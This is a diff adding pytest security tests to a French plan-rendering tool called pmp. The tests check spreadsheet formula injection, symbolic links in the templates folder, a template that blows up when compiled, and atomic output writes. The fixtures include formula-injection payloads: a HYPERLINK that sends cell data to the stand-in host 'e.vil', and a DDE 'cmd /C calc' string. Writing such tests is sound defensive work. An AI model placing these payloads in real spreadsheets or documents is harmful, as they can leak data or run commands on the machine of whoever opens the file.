@@ -173,3 +173,143 @@ def test_a_lock_held_elsewhere_is_waited_for_a_while_then_named(example_in_cwd, 
         holder.wait()
     assert fcntl  # the lock is released with the process
     assert pmp("log", "ressourcerie-du-val", "R1", "--progress", "90", "--date", "2026-11-26").exit_code == 0
+
+
+# spreadsheet formula injection ---------------------------------------------------------------------
+
+HOSTILE = ['=HYPERLINK("https://e.vil/?d="&A5,"Sophie")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,2)"]
+
+
+def _hostile_mission():
+    import dataclasses
+
+    from conftest import EXAMPLE
+
+    from pamplemousse.read.load import load_mission
+
+    base, _ = load_mission(EXAMPLE)
+    recs = list(base.recommendations)
+    ind = recs[0].indicators[0].model_copy(update={"name": HOSTILE[3], "unit": HOSTILE[4]})
+    recs[0] = recs[0].model_copy(update={"title": HOSTILE[0], "owner": HOSTILE[1], "indicators": [ind]})
+    journal = [
+        e.model_copy(update={"note": HOSTILE[2]}) if e.recommendation == recs[0].id
+        else e.model_copy(update={"committee": HOSTILE[1], "decisions": [HOSTILE[0]]}) if e.committee else e
+        for e in base.journal
+    ]
+    meta = base.meta.model_copy(update={"client": base.meta.client.model_copy(update={"name": HOSTILE[0]})})
+    return dataclasses.replace(base, recommendations=recs, journal=journal, meta=meta)
+
+
+def test_no_text_of_a_mission_becomes_a_formula_in_the_workbook(tmp_path):
+    import io
+    import subprocess
+
+    from openpyxl import load_workbook
+
+    from pamplemousse.outputs.xlsx import xlsx_bytes
+    from pamplemousse.plan.state import state_on
+
+    mission = _hostile_mission()
+    data = xlsx_bytes(mission, state_on(mission, __import__("datetime").date(2026, 11, 26)), "fr")
+    wb = load_workbook(io.BytesIO(data))
+    texts, formulas = set(), []
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    formulas.append(cell.value)
+                elif isinstance(cell.value, str):
+                    texts.add(cell.value)
+                    if cell.value.startswith(("=", "+", "-", "@")):
+                        assert cell.quotePrefix, (ws.title, cell.coordinate)
+    assert formulas and all(f.startswith("=IF(AND(") for f in formulas)  # pmp's own « days late » only
+    assert {HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3]} <= texts
+    # and LibreOffice, opening it, shows the texts and computes nothing from them
+    book = tmp_path / "plan.xlsx"
+    book.write_bytes(data)
+    done = subprocess.run(
+        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo", "--convert-to", "csv",
+         "--outdir", str(tmp_path), str(book)], capture_output=True, timeout=120,
+    )
+    assert done.returncode == 0, done.stderr
+    csv = (tmp_path / "plan.csv").read_text(encoding="utf-8", errors="replace")
+    assert 'HYPERLINK(""https://e.vil/?d=""&A5,""Sophie"")' in csv and "cmd|' /C calc'!A0" in csv
+
+
+# templates: no symbolic link, compiling within the bounds ------------------------------------------
+
+NB = "\u00a0"
+
+
+def _override(root, text, name="templates/html/pilotage.html.j2"):
+    (root / name).parent.mkdir(parents=True, exist_ok=True)
+    (root / name).write_text(text, encoding="utf-8")
+
+
+def test_a_templates_folder_that_is_a_symbolic_link_is_refused(example_in_cwd, pmp):
+    root = example_in_cwd.parent.parent
+    (root / "templates").symlink_to(".")  # the whole workspace as templates
+    _override(root, "{% include 'missions/ressourcerie-du-val/questions.yaml' %}", "html/pilotage.html.j2")
+    before = snapshot(root)
+    r = pmp("render", "ressourcerie-du-val", "--format", "html", "--as-of", "2026-11-26")
+    assert r.exit_code == 2
+    assert r.stderr == (
+        f"pmp : templates est un lien symbolique{NB}: pmp ne lit pas un dossier de modèles à travers un lien{NB}; "
+        "remplacez-le par un vrai dossier\n"
+    )
+    assert snapshot(root) == before
+
+
+def test_a_folder_of_templates_that_is_a_symbolic_link_is_refused(example_in_cwd, pmp):
+    root = example_in_cwd.parent.parent
+    (root / "templates").mkdir()
+    _override(root, "{% include 'html/questions.yaml' %}", "elsewhere/pilotage.html.j2")
+    (root / "elsewhere" / "questions.yaml").symlink_to(root / "missions" / "ressourcerie-du-val" / "questions.yaml")
+    (root / "templates" / "html").symlink_to(root / "elsewhere")
+    r = pmp("render", "ressourcerie-du-val", "--format", "html", "--as-of", "2026-11-26")
+    assert r.exit_code == 2 and "Traceback" not in r.output
+    assert "ce modèle est un lien vers un fichier hors du dossier des modèles (templates)" in r.stderr
+
+
+def test_a_link_below_the_templates_folder_is_refused_even_leading_inside(example_in_cwd, pmp):
+    root = example_in_cwd.parent.parent
+    _override(root, "{% include 'html/parts/x.j2' %}")
+    _override(root, "SECRET", "templates/md/x.j2")
+    (root / "templates" / "html" / "parts").symlink_to(root / "templates" / "md")
+    r = pmp("render", "ressourcerie-du-val", "--format", "html", "--as-of", "2026-11-26")
+    assert r.exit_code == 2
+    assert f"templates/html/parts est un lien symbolique{NB}: pmp ne lit pas de modèle à travers un lien" in r.stderr
+    assert not (example_in_cwd / "out").exists()
+
+
+def test_a_template_folded_while_compiling_meets_the_memory_and_time_bounds(example_in_cwd, pmp):
+    import resource
+    import time
+
+    root = example_in_cwd.parent.parent
+    chain = "'" + "x" * 10 + "'" + "|replace('x', 'xxxxxxxxxx')" * 12  # 10**13 characters once folded
+    _override(root, "<p>\n{{ " + chain + " }}")
+    start, peak = time.monotonic(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    r = pmp("render", "ressourcerie-du-val", "--format", "html", "--as-of", "2026-11-26")
+    assert time.monotonic() - start < 10
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak < 700 * 1024  # KiB
+    assert r.exit_code == 2
+    assert r.stderr.startswith("pmp : templates/html/pilotage.html.j2:2")
+    assert "dépasse la taille permise dans un modèle" in r.stderr
+    assert not (example_in_cwd / "out").exists()
+
+
+# a render's set of outputs ---------------------------------------------------------------------------
+
+def test_a_render_checks_every_target_before_replacing_any(example_in_cwd, pmp, tmp_path):
+    out = example_in_cwd / "out"
+    assert pmp("render", "ressourcerie-du-val", "--as-of", "2026-11-20").exit_code == 0
+    (out / "pilotage.md").unlink()
+    (out / "pilotage.md").symlink_to(tmp_path / "ailleurs.md")
+    before = snapshot(out)
+    r = pmp("render", "ressourcerie-du-val", "--as-of", "2026-11-26")
+    assert r.exit_code == 3
+    assert "pilotage.md" in r.stderr and "lien symbolique" in r.stderr
+    assert snapshot(out) == before  # pilotage.html not replaced either
+    assert not (tmp_path / "ailleurs.md").exists()
+    assert not [p for p in out.iterdir() if p.name.endswith(".tmp")]
